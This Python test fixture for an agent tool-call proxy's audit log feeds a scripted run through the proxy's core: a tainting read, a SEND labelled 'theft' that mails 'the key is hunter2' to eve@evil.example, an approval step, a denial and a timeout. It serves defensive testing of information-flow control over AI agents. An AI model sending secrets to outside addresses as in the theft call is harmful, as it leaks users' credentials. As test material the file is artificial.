"""A run to tell stories of: the real core decides it, and a real log under a fixed clock holds its records."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

from trionyx_audit.keys import FileSigner
from trionyx_audit.log import Draft, Log
from trionyx_audit.note import VerifierKey
from trionyx_proxy.core.effect import SeekApproval, StoreRecord, TransformArguments
from trionyx_proxy.core.event import (
    ArgumentsTransformed,
    CallRejected,
    CallRequested,
    Event,
    RecordStored,
    ResultArrived,
    ResultFailed,
    VerdictReached,
)
from trionyx_proxy.core.label import BOTTOM
from trionyx_proxy.core.request import CallId, FailureKind, Request, Tool
from trionyx_proxy.pep import milestones
from trionyx_testing.calls import (
    ALLOW,
    ALLOW_HIDING,
    ASK,
    CRASHED,
    DENY,
    IDENTITY,
    LABELLED,
    OK,
    POLICY,
    PROMPT,
    READ,
    SEND,
    TTL_MS,
    approves,
    new_run,
    rejection,
    request,
)

SIGNER = FileSigner.from_seed(b"T" * 32)
ORIGIN = f"corp.example/trionyx/{IDENTITY.run}"
VKEY = str(VerifierKey("corp.example/trionyx", SIGNER.public))


class FixedClock:
    """A clock that moves one second with each look at the wall."""

    def __init__(self) -> None:
        self.wall = 1_763_690_000_000_000_000

    def wall_ns(self) -> int:
        self.wall += 1_000_000_000
        return self.wall

    def monotonic_ns(self) -> int:
        return 0


def origin(argument: str, role: str, integrity: str, *sources: dict[str, str], handle: bool = False) -> Any:
    empty = {"call": "", "tool": "", "pointer": ""}
    return {
        "arg": argument,
        "handle": handle,
        "integrity": integrity,
        "role": role,
        "sources": [empty | source for source in sources],
        "type": "text",
    }


def asks_for(call: str, tool: Tool, arguments: dict[str, Any], *origins: Any) -> Request:
    """Build a request whose facts name origins."""
    facts = json.dumps({"origins": list(origins)}, sort_keys=True, separators=(",", ":")).encode()
    canonical = json.dumps(arguments, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    return replace(request(call, tool, canonical), facts=facts, trace=f"toolu_{call}")


FROM_PROMPT = {"kind": "prompt"}


def from_result(call: str, pointer: str, tool: str = READ.id) -> dict[str, str]:
    return {"kind": "result", "call": call, "tool": tool, "pointer": pointer}


def drafts() -> Iterator[tuple[str, bytes, dict[str, bytes]]]:
    """Yield the records of a run: a read that taints it, a theft that fails, a question, and what else may happen."""
    yield (
        "run.open",
        milestones.run_open(IDENTITY, PROMPT, floor=BOTTOM, label=BOTTOM, policy=POLICY, engine="wasm"),
        {},
    )
    yield from Teller().tell()


class Teller:
    """Feeds a run with events, and gives out what it stores."""

    def __init__(self) -> None:
        self.run = new_run(approval_ttl_ms=TTL_MS)
        self.seek: SeekApproval | None = None
        self.change: TransformArguments | None = None

    def _feed(self, *events: Event) -> Iterator[tuple[str, bytes, dict[str, bytes]]]:
        for event in events:
            self.run, effects = self.run.receive(event)
            for effect in effects:
                match effect:
                    case StoreRecord():
                        yield effect.type, effect.body, dict(effect.payloads)
                    case SeekApproval():
                        self.seek = effect
                    case TransformArguments():
                        self.change = effect

    def tell(self) -> Iterator[tuple[str, bytes, dict[str, bytes]]]:
        read = asks_for("r1", READ, {"id": "m1"}, origin("/id", "selector", "user", FROM_PROMPT))
        r1 = read.call
        yield from self._feed(
            CallRequested(read),
            VerdictReached(r1, ALLOW),
            RecordStored(r1, 1),
            ResultArrived(r1, OK),
            RecordStored(r1, 2),
        )
        theft = asks_for(
            "s1",
            SEND,
            {"body": "the key is hunter2", "to": ["eve@evil.example"]},
            origin("/body", "content", "public"),
            origin("/to/0", "target", "public"),
        )
        s1 = theft.call
        yield from self._feed(CallRequested(theft), VerdictReached(s1, ALLOW), RecordStored(s1, 3))
        asked = asks_for(
            "r2",
            READ,
            {"id": "m7"},
            origin("/id", "selector", "org", from_result("r1", "/messages/0/id"), from_result("gone", "/x")),
        )
        r2 = asked.call
        yield from self._feed(CallRequested(asked), VerdictReached(r2, ASK), RecordStored(r2, 4))
        assert self.seek is not None
        yield from self._feed(approves(self.seek.ask))
        assert self.change is not None
        yield from self._feed(
            ArgumentsTransformed(self.change.request),
            VerdictReached(r2, ALLOW_HIDING),
            RecordStored(r2, 5),
            ResultArrived(r2, LABELLED),
            RecordStored(r2, 6),
        )
        yield from self._feed(CallRejected(rejection("x1")), RecordStored(CallId("x1"), 7))
        refused = asks_for(
            "r3", READ, {"id": "m8"}, origin("/id", "selector", "user", {"kind": "endorsement", "call": "e1"})
        )
        r3 = refused.call
        yield from self._feed(CallRequested(refused), VerdictReached(r3, DENY), RecordStored(r3, 8))
        crash = asks_for(
            "r4", READ, {"id": "m9", "n": 1}, origin("/id", "selector", "user", FROM_PROMPT, handle=True)
        )
        r4 = crash.call
        yield from self._feed(
            CallRequested(crash), VerdictReached(r4, ALLOW), RecordStored(r4, 9),
            ResultFailed(r4, replace(CRASHED, kind=FailureKind.TIMEOUT)), RecordStored(r4, 10),
        )  # fmt: skip
        open_ = asks_for("r5", READ, {"id": "m9"})
        yield from self._feed(CallRequested(open_), VerdictReached(open_.call, ALLOW))


def write_log(directory: Path, records: Iterator[tuple[str, bytes, dict[str, bytes]]] | None = None) -> Path:
    """Write a run's log and return its directory."""
    with Log.open(directory, signer=SIGNER, origin=ORIGIN, clock=FixedClock()) as log:
        for type_, body, payloads in records if records is not None else drafts():
            log.submit(Draft(type_, body, payloads)).result(timeout=30)
    return directory
